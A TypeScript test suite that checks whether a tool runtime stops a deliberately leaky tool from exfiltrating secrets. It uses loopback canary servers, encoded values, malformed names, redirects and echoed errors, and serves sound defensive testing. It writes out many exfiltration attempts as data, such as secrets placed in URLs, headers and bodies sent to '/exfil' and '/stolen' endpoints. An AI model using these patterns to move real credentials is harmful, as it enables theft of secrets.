/**
 * A tool that tries every way to get a secret out (test/fixtures/tools/leaky),
 * run in the real runtime against loopback servers: B, the API the secrets are
 * bound to; C1, a destination the policy lets the tool reach but binds no
 * secret to; C2, a destination the policy does not know. The tool reads what
 * it may, then puts values and placeholders in URLs, headers and bodies, asks
 * for names it may not read or that are not names, bounces a filled
 * placeholder off B and through a redirect, echoes everything it holds, and
 * throws it as its error. No value may reach C1 or C2 (raw request bytes,
 * percent-decoded too), the tool's output and errors are redacted, and neither
 * the audit log nor the operational log (pino at trace level) ever holds one.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import pino from 'pino';
import { verifyAudit } from '../src/audit/index.ts';
import { AuthorityError, ErrorCode } from '../src/errors.ts';
import { SecretStore, type LookupFn } from '../src/host/index.ts';
import { CanaryServer } from './helpers/canary-server.ts';
import { jsFixture } from './helpers/js-fixtures.ts';
import { auditRecords, testRuntime } from './helpers/runtime.ts';

const API_KEY = 'sk-live-API-KEY-0123456789abcdef';
const REVEALED = 'rv-REVEALED-fedcba9876543210';
const OTHER = 'ot-OTHER-SECRET-5555aaaa';
const VALUES = { API_KEY, REVEALED, OTHER };

type Attempt = { do: 'get'; name: string } | { do: 'fetch'; method?: string; url: string; headers?: [string, string][]; body?: string };
type Result = { ok: true; length?: number; status?: number; headers?: [string, string][]; body?: string } | { ok: false; tag: string; code?: string; message: string };

let rt: Awaited<ReturnType<typeof testRuntime>>;
let grants: string[];
let B: CanaryServer, C1: CanaryServer, C2: CanaryServer;
const logLines: string[] = [];
const outputs: string[] = [];
const refusedDials: string[] = [];

const lookup: LookupFn = async (name) => {
  if (name === 'bound.test' || name === 'open.test' || name === 'closed.test') return [{ address: '127.0.0.1', family: 4 }];
  throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${name}`), { code: 'ENOTFOUND' });
};

before(async () => {
  // B echoes what it was sent, in its body and in a header; it also redirects, to itself and to C1.
  B = await CanaryServer.start('bound', (req) => {
    if (req.target === '/redirect-cross') return { status: 302, headers: [['location', `http://open.test:${C1.port}/stolen`]] };
    if (req.target === '/redirect-same') return { status: 307, headers: [['location', '/echo-after-redirect']] };
    const auth = req.headers.find(([k]) => k === 'authorization')?.[1] ?? '';
    return { status: 200, headers: [['x-echo', auth]], body: JSON.stringify({ target: req.target, headers: req.headers, body: req.body.toString('latin1') }) };
  });
  C1 = await CanaryServer.start('open-canary');
  C2 = await CanaryServer.start('closed-canary');
  const sink = new Writable({
    write(chunk: Buffer, _enc, done) {
      logLines.push(chunk.toString('utf8'));
      done();
    },
  });
  rt = await testRuntime({
    policy: {
      version: '1.0',
      name: 'secrets-leak',
      net: {
        connect: [
          { url: `http://bound.test:${B.port}`, resolves_to: ['127.0.0.1'] },
          { url: `http://open.test:${C1.port}`, resolves_to: ['127.0.0.1'] },
        ],
      },
      secrets: {
        API_KEY: { hosts: [`http://bound.test:${B.port}`] },
        REVEALED: { hosts: [`http://bound.test:${B.port}`], reveal: true },
      },
      tools: { allow: ['leaky'] },
    },
    secrets: SecretStore.load({ values: VALUES }),
    logger: pino({ level: 'trace' }, sink),
    http: {
      lookup,
      onConnect: (address, port) => {
        if (address !== '127.0.0.1') {
          refusedDials.push(`${address}:${port}`);
          throw new Error(`test guard: refused to dial ${address}`);
        }
      },
    },
  });
  await rt.register(await jsFixture('leaky'));
  // The widest tokens: what stops a leak here is the policy and the host, never a missing grant.
  grants = [
    rt.issueToken({ kind: 'net', resource: 'http://*:*/**', methods: ['*'], ttlMs: 3_600_000 }),
    rt.issueToken({ kind: 'secrets', resource: '*', methods: ['get', 'use'], ttlMs: 3_600_000 }),
  ];
});

after(async () => {
  await rt?.cleanup();
  for (const s of [B, C1, C2]) await s?.close();
  assert.deepEqual(refusedDials, [], 'nothing but 127.0.0.1 was ever dialled');
});

/** Every spelling of the values a scanner would have to miss for a leak: as is, and percent-encoded byte by byte. */
function spellings(): [string, string][] {
  const out: [string, string][] = [];
  for (const [name, v] of Object.entries(VALUES)) {
    out.push([name, v], [`${name} (percent-encoded)`, [...Buffer.from(v)].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('')]);
  }
  return out;
}

function percentDecode(bytes: Buffer): string {
  return bytes.toString('latin1').replace(/%([0-9a-fA-F]{2})/g, (_, h: string) => String.fromCharCode(parseInt(h, 16)));
}

function assertNoValue(where: string, text: string): void {
  for (const [name, v] of spellings()) assert.ok(!text.includes(v), `${where} never holds the value of ${name}`);
}

let runs = 0;
async function leak(attempts: Attempt[], opts: { echo?: boolean; throwWith?: string } = {}): Promise<{ results: Result[]; got?: Record<string, string>; output: string }> {
  const runId = `leak-${++runs}`;
  const r = await rt.invoke('leaky', { attempts, ...opts }, { grants, runId });
  outputs.push(r.output);
  assertNoValue(`the output of ${runId}`, r.output);
  const parsed = JSON.parse(r.output) as { results: Result[]; got?: Record<string, string> };
  return { ...parsed, output: r.output };
}

function refused(r: Result | undefined, tag: string, code?: string): Extract<Result, { ok: false }> {
  assert.ok(r !== undefined && !r.ok, `refused: ${JSON.stringify(r)}`);
  assert.equal(r.tag, tag, JSON.stringify(r));
  if (code !== undefined) assert.equal(r.code, code, JSON.stringify(r));
  assertNoValue('a refusal message', r.message);
  return r;
}

test('the bound API receives a filled placeholder and a revealed value sent to it (the canary checks are not vacuous)', async () => {
  B.reset();
  const { results } = await leak([
    { do: 'fetch', url: `http://bound.test:${B.port}/echo`, headers: [['authorization', 'Bearer {{secret:API_KEY}}']] },
    { do: 'get', name: 'REVEALED' },
    { do: 'fetch', method: 'POST', url: `http://bound.test:${B.port}/echo`, body: 'value={{got:REVEALED}}' },
  ]);
  assert.deepEqual(
    results.map((r) => r.ok),
    [true, true, true],
    JSON.stringify(results),
  );
  assert.equal(B.requests[0]?.headers.find(([k]) => k === 'authorization')?.[1], `Bearer ${API_KEY}`, 'the placeholder was filled for the bound host');
  assert.equal(B.requests[1]?.body.toString(), `value=${REVEALED}`, 'a revealed value may go where it is bound');
  // What B echoes back is redacted before the tool sees it.
  assert.match(results[0]?.ok ? (results[0].body ?? '') : '', /\[REDACTED:API_KEY\]/);
  assert.ok((results[0] as { headers: [string, string][] }).headers.some(([k, v]) => k === 'x-echo' && v === 'Bearer [REDACTED:API_KEY]'));
});

test('secrets.get of a secret the policy does not reveal, of a secret it does not know, and of a missing one is denied', async () => {
  const { results, got } = await leak(
    [
      { do: 'get', name: 'API_KEY' },
      { do: 'get', name: 'OTHER' },
      { do: 'get', name: 'NOPE' },
    ],
    { echo: true },
  );
  assert.match(refused(results[0], 'denied', ErrorCode.POLICY_DENY).message, /reveal is false/);
  refused(results[1], 'denied', ErrorCode.POLICY_DENY);
  refused(results[2], 'denied', ErrorCode.POLICY_DENY);
  assert.deepEqual(got, {}, 'the tool holds no value');
});

test('secrets.get with a name that is not a name is refused', async () => {
  const names = ['', '../API_KEY', 'API KEY', 'API_KEY\u0000', '{{secret:API_KEY}}', 'x'.repeat(300), 'api_key', 'API_KEY*', 'secrets/API_KEY', 'REVEALED\n'];
  const { results, got } = await leak(
    names.map((name) => ({ do: 'get', name })),
    { echo: true },
  );
  results.forEach((r, i) => {
    assert.ok(!r.ok, `${JSON.stringify(names[i])} is refused`);
    if (!r.ok) assert.ok(['invalid', 'denied'].includes(r.tag), `${JSON.stringify(names[i])}: ${r.tag}`);
  });
  assert.deepEqual(got, {});
});

test('a revealed value sent to a reachable host it is not bound to is refused, in the URL, a header or the body, raw or percent-encoded', async () => {
  const open = `http://open.test:${C1.port}`;
  const { results } = await leak([
    { do: 'get', name: 'REVEALED' },
    { do: 'fetch', url: `${open}/{{got:REVEALED}}` },
    { do: 'fetch', url: `${open}/x?k={{got:REVEALED}}` },
    { do: 'fetch', url: `${open}/x?k={{got%:REVEALED}}` },
    { do: 'fetch', url: `${open}/{{got%:REVEALED}}` },
    { do: 'fetch', url: `${open}/x`, headers: [['x-api-key', '{{got:REVEALED}}']] },
    { do: 'fetch', url: `${open}/x`, headers: [['authorization', 'Bearer {{got:REVEALED}}']] },
    { do: 'fetch', url: `${open}/x`, headers: [['cookie', 'a=1; k={{got:REVEALED}}']] },
    { do: 'fetch', method: 'POST', url: `${open}/x`, body: '{{got:REVEALED}}' },
    { do: 'fetch', method: 'POST', url: `${open}/x`, body: '{"k":"{{got:REVEALED}}"}' },
    { do: 'fetch', method: 'POST', url: `${open}/x`, body: 'k={{got%:REVEALED}}' },
    { do: 'fetch', method: 'PUT', url: `${open}/x`, headers: [['content-type', 'text/plain']], body: `prefix-{{got:REVEALED}}-suffix` },
    // And to a host the policy does not know at all.
    { do: 'fetch', method: 'POST', url: `http://closed.test:${C2.port}/x`, body: '{{got:REVEALED}}' },
  ]);
  assert.equal(results[0]?.ok, true, 'REVEALED may be read');
  for (const r of results.slice(1, -1)) refused(r, 'denied', ErrorCode.SECRET_LEAK);
  refused(results.at(-1), 'denied', ErrorCode.POLICY_DENY);
  assert.equal(C1.requests.length, 0, 'C1 never received one of these requests');
});

test('a placeholder in a URL or a body is never filled, even for the bound host; in a header it is refused for every host but the bound one', async () => {
  const bound = `http://bound.test:${B.port}`;
  const open = `http://open.test:${C1.port}`;
  B.reset();
  const { results } = await leak([
    { do: 'fetch', url: `${bound}/x?k={{secret:API_KEY}}` },
    { do: 'fetch', url: `${open}/{{secret:API_KEY}}` },
    { do: 'fetch', url: `${open}/x?k=%7B%7Bsecret:API_KEY%7D%7D` },
    { do: 'fetch', method: 'POST', url: `${bound}/x`, body: 'k={{secret:API_KEY}}' },
    { do: 'fetch', method: 'POST', url: `${open}/x`, body: 'k=%7B%7Bsecret%3AAPI_KEY%7D%7D' },
    { do: 'fetch', url: `${open}/x`, headers: [['authorization', 'Bearer {{secret:API_KEY}}']] },
    { do: 'fetch', url: `${open}/x`, headers: [['authorization', 'Bearer {{secret:REVEALED}}']] },
    { do: 'fetch', url: `http://closed.test:${C2.port}/x`, headers: [['authorization', 'Bearer {{secret:API_KEY}}']] },
    { do: 'fetch', url: `${bound}/x`, headers: [['authorization', 'Bearer {{secret:OTHER}}']] },
    { do: 'fetch', url: `${bound}/x`, headers: [['authorization', 'Bearer {{SECRET:API_KEY}}']] },
    { do: 'fetch', url: `${bound}/x`, headers: [['authorization', 'Bearer {{ secret:API_KEY }}']] },
    { do: 'fetch', url: `${bound}/x`, headers: [['authorization', 'Bearer {{secret:../API_KEY}}']] },
  ]);
  for (const r of results.slice(0, 5)) refused(r, 'denied', ErrorCode.SECRET_LEAK);
  for (const r of results.slice(5, 9)) refused(r, 'denied', ErrorCode.POLICY_DENY);
  for (const r of results.slice(9)) refused(r, 'invalid');
  assert.equal(B.requests.length, 0, 'B received none of these');
  assert.equal(C1.requests.length, 0, 'C1 received none of these');
});

test('a filled placeholder reflected by the bound API reaches the tool redacted, so forwarding the reflection leaks nothing', async () => {
  C1.reset();
  const { results } = await leak([
    { do: 'fetch', url: `http://bound.test:${B.port}/echo`, headers: [['authorization', 'Bearer {{secret:API_KEY}}']] },
    { do: 'fetch', method: 'POST', url: `http://open.test:${C1.port}/exfil`, body: '{{prev}}' },
  ]);
  assert.equal(results[0]?.ok, true);
  assert.equal(results[1]?.ok, true, 'the redacted reflection is an ordinary request');
  assert.equal(C1.requests.length, 1);
  assert.match(C1.requests[0]?.body.toString() ?? '', /\[REDACTED:API_KEY\]/);
});

test('a placeholder header never follows a redirect to another origin, and does follow one to the same origin', async () => {
  B.reset();
  C1.reset();
  const { results } = await leak([
    { do: 'fetch', url: `http://bound.test:${B.port}/redirect-cross`, headers: [['authorization', 'Bearer {{secret:API_KEY}}'], ['x-key', 'k {{secret:API_KEY}}']] },
    { do: 'fetch', url: `http://bound.test:${B.port}/redirect-same`, headers: [['authorization', 'Bearer {{secret:API_KEY}}']] },
  ]);
  assert.equal(results[0]?.ok, true, JSON.stringify(results[0]));
  assert.deepEqual(
    C1.requests.map((r) => r.target),
    ['/stolen'],
  );
  const crossed = C1.requests[0]?.headers ?? [];
  assert.ok(!crossed.some(([k]) => k === 'authorization' || k === 'x-key'), 'no header that held a placeholder crossed to C1');
  assert.equal(results[1]?.ok, true, JSON.stringify(results[1]));
  assert.equal(B.requests.at(-1)?.target, '/echo-after-redirect');
  assert.equal(B.requests.at(-1)?.headers.find(([k]) => k === 'authorization')?.[1], `Bearer ${API_KEY}`);
});

test("the tool's output and its error are redacted when it echoes what it read", async () => {
  const echoed = await leak([{ do: 'get', name: 'REVEALED' }], { echo: true });
  assert.deepEqual(echoed.got, { REVEALED: '[REDACTED:REVEALED]' });
  await assert.rejects(rt.invoke('leaky', { attempts: [{ do: 'get', name: 'REVEALED' }], throwWith: 'the value is {{got:REVEALED}}!' }, { grants, runId: 'leak-throw' }), (e: unknown) => {
    assert.ok(e instanceof AuthorityError);
    assert.equal(e.code, ErrorCode.TOOL_FAILED);
    assert.equal(e.message, 'the value is [REDACTED:REVEALED]!');
    assertNoValue('the error', `${e.message} ${JSON.stringify(e.data)}`);
    return true;
  });
  const end = await auditRecords(rt.dataDir, (r) => r.runId === 'leak-throw' && r.kind === 'invoke.end');
  assert.deepEqual(end[0]?.detail?.['redacted'], ['REVEALED'], 'the log says a redaction happened, by name');
});

test('regression: a revealed value the tool put in a URL was written to the audit log (the intent record showed the URL and quoted it in its reason)', async () => {
  const open = `http://open.test:${C1.port}`;
  const runId = `leak-${runs + 1}`;
  const { results } = await leak([
    { do: 'get', name: 'REVEALED' },
    { do: 'fetch', url: `${open}/path/{{got:REVEALED}}?q={{got:REVEALED}}` },
    { do: 'fetch', url: `${open}/x?k={{got%:REVEALED}}` },
  ]);
  for (const r of results.slice(1)) refused(r, 'denied', ErrorCode.SECRET_LEAK);
  const records = await auditRecords(rt.dataDir, (r) => r.runId === runId);
  const intents = records.filter((r) => r.kind === 'call.intent' && r.op === 'http.fetch');
  assert.equal(intents.length, 2, 'both requests passed the gate, and the host refused them');
  assertNoValue('the records of the run', JSON.stringify(records));
  assert.equal(intents[0]?.detail?.['url'], `${open}/path/[REDACTED:REVEALED]?q=[REDACTED:REVEALED]`, 'the record still says where the request went');
  assert.match(String(intents[1]?.detail?.['url']), /\[REDACTED:REVEALED\]/);
});

test('no canary received a value, the audit log and the operational log hold none, and the chain verifies', async () => {
  for (const s of [C1, C2]) {
    const raw = s.received;
    assertNoValue(`the bytes ${s.name} received`, raw.toString('latin1'));
    assertNoValue(`the bytes ${s.name} received, percent-decoded`, percentDecode(raw));
  }
  assert.equal(C2.received.length, 0, 'the closed canary never received a byte');
  assert.ok(C1.received.length > 0, 'C1 did receive the harmless requests (the check is not vacuous)');
  assert.ok(B.received.includes(API_KEY), 'B received the value where it is bound');
  const log = readFileSync(join(rt.dataDir, 'audit', 'log.jsonl'), 'utf8');
  assertNoValue('the audit log', log);
  for (const g of grants) assert.ok(!log.includes(g), 'no token in the audit log');
  const ops = logLines.join('');
  assert.ok(logLines.length > 0, 'the operational log was captured');
  assertNoValue('the operational log', ops);
  for (const g of grants) assert.ok(!ops.includes(g), 'no token in the operational log');
  const report = await verifyAudit({ dir: rt.dataDir });
  assert.equal(report.ok, true, JSON.stringify(report.firstBad));
});
